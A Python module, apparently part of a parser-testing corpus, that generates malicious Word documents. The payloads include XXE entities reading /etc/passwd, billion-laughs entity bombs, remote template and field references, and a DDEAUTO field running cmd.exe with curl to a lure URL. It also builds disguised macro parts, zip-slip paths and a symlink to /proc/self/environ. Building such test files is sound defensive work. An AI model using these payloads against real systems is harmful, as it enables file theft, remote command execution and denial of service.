"""Word files that want something fetched, run or written elsewhere."""

from __future__ import annotations

import io
import stat
import zipfile
from random import Random

from hostile_files.making import DOCX, READABLE, Lures, Maker, Shelf
from hostile_files.word_writing import LINE, MAIN, document, packed, parts, relations, word

SHELF = Shelf("word link", DOCX)
_ENTITY = "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"


def _declaring(told: str, kind: str) -> Maker:
    """A document type in the body, or in the relations, where nobody looks for one."""

    def make(dice: Random, lures: Lures) -> bytes:
        head = f"<!DOCTYPE w [{told.replace('URL', lures.at('entity').decode())}]>"
        if kind == "relations":
            return word(more={"_rels/.rels": head + relations(MAIN).replace("r1", "&x;")})
        return word(_ENTITY, head=head)

    return make


_LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghix", strict=True)
)
for name, told in (
    ("a file of this machine", '<!ENTITY x SYSTEM "file:///etc/passwd">'),
    ("a page of the web", '<!ENTITY x SYSTEM "URL">'),
    ("a definition of the web", '<!ENTITY % p SYSTEM "URL">%p;<!ENTITY x "y">'),
    ("a thousand million laughs", _LAUGHS),
    ("one long laugh again and again", f'<!ENTITY x "{"ha" * 50_000}">'),
):
    for part in ("body", "relations"):
        SHELF.put(f"entities: {name}, in the {part}", _declaring(told, part), "CORRUPT", kind="word entities")


@SHELF.add("CORRUPT", kind="word entities")
def a_definition_named_outright(dice: Random, lures: Lures) -> bytes:
    return word(head=f'<!DOCTYPE w SYSTEM "{lures.at("dtd").decode()}">')


def _related(kind: str, body: str) -> Maker:
    def make(dice: Random, lures: Lures) -> bytes:
        away = lures.at(f"{kind}-{dice.randint(0, 999)}").decode()
        related = relations(("r9", kind, away, True), ("r8", kind, away.replace("http:", ""), True))
        own = {"word/_rels/document.xml.rels": related, "word/_rels/settings.xml.rels": related}
        return word(LINE + body.replace("URL", away), more={**own, "word/settings.xml": "<x/>"})

    return make


_FIELD = "<w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText>{}</w:instrText></w:r></w:p>"
for kind, inside in {
    "attachedTemplate": "",
    "image": "",
    "hyperlink": "",
    "header": "",
    "footer": "",
    "frame": "",
    "oleObject": "",
    "subDocument": '<w:subDoc xmlns:r="x" r:id="r9"/>',
    "aFChunk": '<w:altChunk xmlns:r="x" r:id="r9"/>',
    "INCLUDEPICTURE": _FIELD.format('INCLUDEPICTURE "URL" \\d'),
    "INCLUDETEXT": _FIELD.format('INCLUDETEXT "URL"'),
    "DDEAUTO": _FIELD.format('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k curl URL"'),
    "XInclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="URL" parse="text"/>',
}.items():
    SHELF.put(f"{kind} from outside", _related(kind, inside), READABLE)


@SHELF.add(READABLE)
def a_page_of_the_web_within(dice: Random, lures: Lures) -> bytes:
    page = b"<html><iframe src='%b'></iframe><img src='%b'></html>" % (lures.at("frame"), lures.at("img"))
    related = relations(("r9", "aFChunk", "chunk.html", False))
    body = LINE + '<w:altChunk xmlns:r="x" r:id="r9"/>'
    return word(body, more={"word/chunk.html": page, "word/_rels/document.xml.rels": related})


@SHELF.add(READABLE)
def macros_under_another_name(dice: Random, lures: Lures) -> bytes:
    types = str(parts()["[Content_Types].xml"]).replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main", "vnd.ms-word.document.macroEnabled.main"
    )
    macro = b"\xd0\xcf\x11\xe0" + dice.randbytes(5_000)
    related = relations(("r9", "vbaProject", "vbaProject.bin", False))
    more: dict[str, str | bytes] = {"[Content_Types].xml": types, "word/vbaProject.bin": macro}
    return word(more=more | {"word/_rels/document.xml.rels": related})


def _slipping(where: str) -> Maker:
    def make(dice: Random, lures: Lures) -> bytes:
        name = where.replace("UP", "../" * dice.randint(1, 14)) + lures.word
        related = relations(("r9", "header", name, False), ("r8", "image", name, False))
        return word(more={name: document(LINE), "word/_rels/document.xml.rels": related})

    return make


for place in ("UP", "/", "/var/tmp/", "/etc/", "word/../UP", "C:\\Windows\\", "..\\..\\..\\", "~/", "word/UPtmp/"):  # noqa: S108
    SHELF.put(f"a part named {place}", _slipping(place), READABLE, kind="word zip-slip")


@SHELF.add(READABLE, kind="word zip-slip")
def a_part_that_is_a_link(dice: Random, lures: Lures) -> bytes:
    written = io.BytesIO(packed(parts()))
    with zipfile.ZipFile(written, "a") as archive:
        link = zipfile.ZipInfo("word/header1.xml")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, dice.choice(["/etc/passwd", "../../../../etc/passwd", "/proc/self/environ"]))
        archive.writestr(f"word/header1.xml/{lures.word}", "through the link")
    return written.getvalue()
